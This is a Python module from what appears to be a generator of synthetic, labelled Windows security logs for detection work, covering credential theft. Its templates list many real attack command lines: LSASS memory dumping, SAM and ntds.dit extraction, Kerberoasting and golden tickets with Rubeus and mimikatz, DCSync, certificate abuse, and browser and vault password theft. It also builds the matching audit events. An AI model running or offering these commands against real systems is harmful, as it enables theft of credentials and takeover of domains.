"""Theft of passwords, hashes and tickets: dumps, hives, directory replication, browsers, keys."""

from __future__ import annotations

from generator.families.windows.command_story import background, command_story
from generator.families.windows.desk import AUDIT, Desk
from generator.families.windows.event_formats import WindowsEvent
from generator.scene import Scene, attack, family
from generator.world import World

LSASS = attack("Credential Theft", "T1003.001", severity="CRITICAL")

command_story("lsass-dump-commands", LSASS, (
    "procdump.exe -accepteula -ma lsass.exe @tmp@@word@.dmp", "C:\\Users\\@user@\\Downloads\\procdump64.exe -ma lsass @word@.dmp", "@tmp@@word@.exe -accepteula -r -ma lsass.exe @tmp@@word@.dat", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump @pid@ @tmp@@word@.«dmp|bin|log|png» full", "rundll32 comsvcs.dll #24 @pid@ @tmp@@word@ full", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll,#-4294967272 @pid@ C:\\PerfLogs\\@word@.tmp full", "powershell -c \"rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump (Get-Process lsass).Id $env:TEMP\\@word@.dmp full\"",
    "cmd /c for /f \"tokens=1,2 delims= \" %A in ('tasklist /fi \"Imagename eq lsass.exe\" ^| find \"lsass\"') do rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump %B @tmp@@word@.docx full", "@tmp@nanodump.x64.exe --write @tmp@@word@.dmp --valid", "@tmp@mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "@tmp@@word@.exe sekurlsa::minidump @word@.dmp sekurlsa::logonPasswords full", "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe\" /v ReportingMode /t REG_DWORD /d 2 /f", "C:\\Windows\\System32\\rdrleakdiag.exe /p @pid@ /o @tmp@ /fullmemdmp /wait 1", "tttracer.exe -dumpFull -attach @pid@", "\"C:\\Program Files\\Avast Software\\Avast\\AvDump.exe\" --pid @pid@ --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file @tmp@@word@.dmp", "sqldumper.exe @pid@ 0 0x01100:40", "createdump.exe -u -f @tmp@@word@.dmp @pid@", "@tmp@handlekatz.exe --pid:@pid@ --outfile:@tmp@@word@.bin", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
), is_attack=True, most=2)
command_story("hive-and-directory-dump", attack("Credential Theft", "T1003.002", "T1003.003", severity="CRITICAL"), (
    "reg save HKLM\\SAM @tmp@@word@.«hiv|save|dat»", "reg.exe save hklm\\system C:\\Users\\Public\\sys.hiv", "reg save HKLM\\SECURITY security.bak /y", "reg export HKLM\\SAM @tmp@sam.reg", "esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d @tmp@@word@", "esentutl /y /vss c:\\windows\\ntds\\ntds.dit /d c:\\@word@.dit", "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\\@word@\" q q", "ntdsutil.exe \"activate instance ntds\" ifm \"create full @tmp@\" quit quit", "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy@n@\\Windows\\NTDS\\NTDS.dit @tmp@@word@.dit", "copy.exe \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM @tmp@", "diskshadow.exe /s @tmp@@word@.txt", "vssadmin create shadow /for=C: && copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\windows\\ntds\\ntds.dit .", "wmic /node:@dc@ shadowcopy call create Volume=C:\\", "powershell -c \"[System.IO.File]::Copy((gwmi Win32_ShadowCopy)[0].DeviceObject+'\\windows\\system32\\config\\sam','@tmp@sam')\"", "secretsdump.exe -sam sam.hiv -system sys.hiv LOCAL", "@tmp@@word@.exe lsadump::sam", "mklink.exe /d C:\\@word@ \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\", "robocopy /b \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Windows\\NTDS @tmp@ ntds.dit",
), is_attack=True, most=3)
command_story("ticket-and-directory-tools", attack("Kerberos or Directory Attack", "T1558.003", "T1558.004"), (
    "@tmp@Rubeus.exe kerberoast /outfile:@word@.txt", "@tmp@@word@.exe kerberoast /nowrap /rc4opsec", "Rubeus.exe asreproast /format:hashcat", "@tmp@Rubeus.exe asktgt /user:@user@ /rc4:@hex@@hex@@hex@ /ptt", "@tmp@@word@.exe s4u /user:@me@$ /impersonateuser:administrator /msdsspn:cifs/@dc@.@fqdn@ /ptt", "mimikatz.exe \"lsadump::dcsync /domain:@fqdn@ /user:krbtgt\" exit", "@tmp@@word@.exe \"kerberos::golden /user:Administrator /domain:@fqdn@ /sid:S-1-5-21-@pid@@pid@-@pid@@pid@ /krbtgt:@hex@@hex@ /ptt\" exit", "setspn -T @fqdn@ -Q */*", "powershell -c \"Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/@host@.@fqdn@:1433'\"", "@tmp@Certify.exe request /ca:@dc@.@fqdn@\\@domain@-CA /template:User /altname:administrator", "@tmp@certipy.exe req -u @user@@@fqdn@ -ca @domain@-CA -template ESC1 -upn administrator@@fqdn@", "Certify.exe find /vulnerable", "@tmp@Whisker.exe add /target:@dc@$", "klist.exe purge && @tmp@@word@.exe kerberos::ptt @word@.kirbi", "@tmp@ADFSDump.exe", "@tmp@@word@.exe \"lsadump::dcshadow /object:@user@ /attribute:primaryGroupID /value:512\"", "powershell -ep bypass -c \"Import-Module DSInternals; Get-ADReplAccount -All -Server @dc@\"", "@tmp@PetitPotam.exe @ip@ @dc@", "@tmp@SpoolSample.exe @dc@ @host@", "@tmp@noPac.exe -domain @fqdn@ -user @user@ -pass @pw@ /dc @dc@ /mAccount @word@ /service cifs /ptt",
), is_attack=True, most=2)
command_story("stored-password-theft", attack("Credential Theft", "T1555.003", "T1555.004", "T1552.001"), (
    "vaultcmd /listcreds:\"Windows Credentials\" /all", "cmdkey /list", "findstr /si \"password=\" *.xml *.ini *.txt *.config", "findstr /S cpassword \\\\@dc@\\sysvol\\@fqdn@\\Policies\\*.xml", "reg query HKLM /f password /t REG_SZ /s", "reg query HKCU\\Software\\SimonTatham\\PuTTY\\Sessions /s", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v DefaultPassword", "cmd /c copy \"C:\\Users\\@user@\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data\" @tmp@@word@.db", "esentutl.exe /y /vss \"C:\\Users\\@user@\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Network\\Cookies\" /d @tmp@@word@", "@tmp@lazagne.exe all -oJ", "@tmp@SharpChrome.exe logins /unprotect", "@tmp@SharpDPAPI.exe triage", "@tmp@WebBrowserPassView.exe /stext @word@.txt", "netsh wlan show profile name=\"@Word@\" key=clear", "C:\\Windows\\System32\\inetsrv\\appcmd.exe list apppool /text:* /config", "xcopy /y /s %APPDATA%\\Mozilla\\Firefox\\Profiles\\*.default-release\\logins.json @tmp@", "powershell -c \"[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime];(New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll()|%{$_.RetrievePassword();$_}\"", "dir.exe /s /b C:\\Users\\*.kdbx C:\\Users\\*id_rsa*", "@tmp@mimipenguin.exe --vault", "@tmp@@word@.exe -keylog @tmp@@word@.log",
), is_attack=True, most=3)


@family("windows/lsass-access-hostile", attack=True, weight=1.5)
def lsass_access_hostile(world: World) -> Scene:
    """A strange program reads the memory of lsass.exe."""
    desk = Desk(world)
    source = desk.fill(world.pick(["@tmp@@word@.exe", "@tmp@procdump64.exe", "rundll32.exe", "powershell.exe", "C:\\Windows\\System32\\Taskmgr.exe", "@tmp@mimikatz.exe", "C:\\Users\\@user@\\Downloads\\@Word@.exe", "C:\\ProgramData\\@word@\\@word@.exe", "cmd.exe", "notepad.exe", "C:\\Windows\\Temp\\@word@.tmp", "C:\\Users\\@user@\\AppData\\Local\\@Word@\\python.exe"]))
    rights = world.pick(["0x1010", "0x1410", "0x1FFFFF", "0x1438", "0x143A", "0x1F3FFF", "0x1F1FFF", "0x1418", "0x40", "0x1fffff"])
    trace = desk.fill(world.pick([f"C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN({world.hex(16).upper()})", "C:\\Windows\\SYSTEM32\\ntdll.dll+a0224|C:\\Windows\\System32\\KERNELBASE.dll+3dcae|C:\\Windows\\System32\\dbghelp.dll+1c1a|C:\\Windows\\System32\\comsvcs.dll+26a2", "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6d8b|C:\\Windows\\SYSTEM32\\dbgcore.DLL+fd5a|@tmp@@word@.exe+1d2f", f"C:\\Windows\\SYSTEM32\\ntdll.dll+4595c|C:\\Windows\\system32\\KERNELBASE.dll+8185|{source}+abbae|{source}+abfad"]))
    for _ in range(world.pick([1, 1, 2, 4])):
        desk.access(LSASS, source, "lsass.exe", rights, trace)
    if world.chance(0.5):
        desk.file_created(LSASS, source, desk.fill(world.pick(["@tmp@lsass.DMP", "@tmp@lsass_@n@.dmp", "@tmp@@word@.dmp", "C:\\Users\\@user@\\AppData\\Local\\Temp\\lsass (2).DMP"])))
    if world.chance(0.25):
        background(desk)
    return desk.scene


@family("windows/audited-lsass-handle", attack=True)
def audited_lsass_handle(world: World) -> Scene:
    """The Security log's view of the same: 4656 and 4663 on lsass or the SAM."""
    desk = Desk(world)
    process = desk.fill(world.pick(["@tmp@@word@.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "@tmp@procdump.exe", "C:\\Windows\\System32\\reg.exe", "C:\\Windows\\System32\\cmd.exe"]))
    thing = world.pick(["\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe"] * 3 + ["\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit", "\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account\\Users\\000001F4", "\\REGISTRY\\MACHINE\\SECURITY\\Policy\\Secrets"])
    code = world.pick([4656, 4663])
    data = {"SubjectUserSid": desk.sid, "SubjectUserName": desk.user, "SubjectDomainName": desk.domain, "SubjectLogonId": f"0x{world.hex(6)}", "ObjectServer": "Security", "ObjectType": "Process" if "lsass" in thing else "File" if "ntds" in thing else "Key", "ObjectName": thing, "AccessMask": world.pick(["0x1010", "0x1410", "0x10", "0x1fffff", "0x143a"]), "ProcessId": f"0x{world.hex(3)}", "ProcessName": process}
    desk.add(WindowsEvent(AUDIT, "Security", code, "A handle to an object was requested." if code == 4656 else "An attempt was made to access an object.", data), LSASS if "lsass" in thing else attack("Credential Theft", "T1003.002", severity="CRITICAL"))
    return desk.scene


@family("windows/dcsync", attack=True)
def dcsync(world: World) -> Scene:
    """Directory replication rights used by an account that is no domain controller."""
    desk = Desk(world)
    label = attack("Kerberos or Directory Attack", "T1003.006", severity="CRITICAL")
    for _ in range(world.pick([1, 2, 3])):
        # By their numbers alone, these rights can't be told from those that domain controllers use all day.
        rights = world.pick(["DS-Replication-Get-Changes-All", "DS-Replication-Get-Changes-All", "DS-Replication-Get-Changes-In-Filtered-Set"])
        data = {"SubjectUserSid": desk.sid, "SubjectUserName": desk.user, "SubjectDomainName": desk.domain, "SubjectLogonId": f"0x{world.hex(6)}", "ObjectServer": "DS", "ObjectType": "domainDNS", "ObjectName": world.pick([f"%{{{world.uuid()}}}", desk.fill("DC=@company@,DC=local")]), "OperationType": "Object Access", "AccessList": world.pick(["%%7688", "Control Access"]), "AccessMask": "0x100", "Properties": f"Control Access {rights} domainDNS"}
        desk.add(WindowsEvent(AUDIT, "Security", 4662, "An operation was performed on an object.", data), label)
    return desk.scene


@family("windows/kerberos-tickets-hostile", attack=True, weight=1.5)
def kerberos_tickets_hostile(world: World) -> Scene:
    """Many RC4 service tickets at once, accounts without pre-authentication, or forged tickets."""
    desk = Desk(world)
    source = "::ffff:" + world.ip_private()
    kind = world.pick(["roast", "roast", "asrep", "golden"])
    if kind == "asrep":
        label = attack("Kerberos or Directory Attack", "T1558.004")
        for _ in range(world.number(1, 6)):
            data = {"TargetUserName": world.user(), "TargetDomainName": world.domain.upper(), "TargetSid": desk.sid, "ServiceName": "krbtgt", "ServiceSid": "S-1-5-21-0-0-502", "TicketOptions": world.pick(["0x40800010", "0x50800000"]), "Status": "0x0", "TicketEncryptionType": "0x17", "PreAuthType": "0", "IpAddress": source, "IpPort": str(world.port())}
            desk.add(WindowsEvent(AUDIT, "Security", 4768, "A Kerberos authentication ticket (TGT) was requested.", data), label)
        return desk.scene
    label = attack("Kerberos or Directory Attack", "T1558.003") if kind == "roast" else attack("Kerberos or Directory Attack", "T1558.001", severity="CRITICAL")
    who = f"{desk.user}@{world.domain.upper()}" if kind == "roast" else world.pick(["Administrator", "adminstrator", desk.user.upper(), "fakeuser"]) + "@" + world.pick([world.domain, "eo.oe.kiwi"])
    for service in world.some(["svc_sql", "svc_web", "svc_backup", "svc_iis", "sqlservice", "svc_sharepoint", "exchsvc", "svc_vcenter", "svc_adfs", "sccm_naa", "svc_print", "svc_crm", "tomcat", "svc_ftp"], 1 if kind == "golden" else 2, 12 if kind == "roast" else 2):
        data = {"TargetUserName": who, "TargetDomainName": world.domain.upper() if kind == "roast" else world.pick(["", world.domain]), "ServiceName": service if kind == "roast" else world.pick(["krbtgt", "DC01$"]), "ServiceSid": f"S-1-5-21-{world.number(10**8, 10**9)}-{world.number(1000, 5000)}", "TicketOptions": "0x40810000", "TicketEncryptionType": "0x17", "IpAddress": source, "IpPort": str(world.port()), "Status": "0x0", "LogonGuid": "{00000000-0000-0000-0000-000000000000}" if kind == "golden" else desk.guid(), "TransmittedServices": "-"}
        desk.add(WindowsEvent(AUDIT, "Security", 4769, "A Kerberos service ticket was requested.", data), label)
    return desk.scene


@family("windows/browser-store-read", attack=True)
def browser_store_read(world: World) -> Scene:
    """A program from a temporary folder opens the passwords of browsers, or drops what it found."""
    desk = Desk(world)
    label = attack("Credential Theft", "T1555.003")
    program = desk.fill("@tmp@@word@.exe")
    stores = ["C:\\Users\\@user@\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", "C:\\Users\\@user@\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Login Data", "C:\\Users\\@user@\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\@word@.default-release\\key4.db", "C:\\Users\\@user@\\AppData\\Local\\Google\\Chrome\\User Data\\Local State", "C:\\Users\\@user@\\AppData\\Roaming\\Opera Software\\Opera Stable\\Login Data", "C:\\Users\\@user@\\AppData\\Local\\Microsoft\\Credentials\\@hex@@hex@", "C:\\Users\\@user@\\AppData\\Roaming\\FileZilla\\sitemanager.xml", "C:\\Users\\@user@\\AppData\\Roaming\\Exodus\\exodus.wallet\\seed.seco"]
    for store in world.some(stores, 1, 5):
        if world.chance(0.5):
            desk.file_created(label, program, desk.fill("@tmp@" + world.pick(["passwords.txt", "Cookies.txt", "chrome_@word@.db", "Autofill.txt", "logins_@n@.zip", "System Info.txt"])))
            continue
        data = {"SubjectUserSid": desk.sid, "SubjectUserName": desk.user, "SubjectDomainName": desk.domain, "ObjectServer": "Security", "ObjectType": "File", "ObjectName": desk.fill(store), "AccessList": "%%4416", "AccessMask": "0x1", "ProcessId": f"0x{world.hex(3)}", "ProcessName": program}
        desk.add(WindowsEvent(AUDIT, "Security", 4663, "An attempt was made to access an object.", data), label)
    return desk.scene
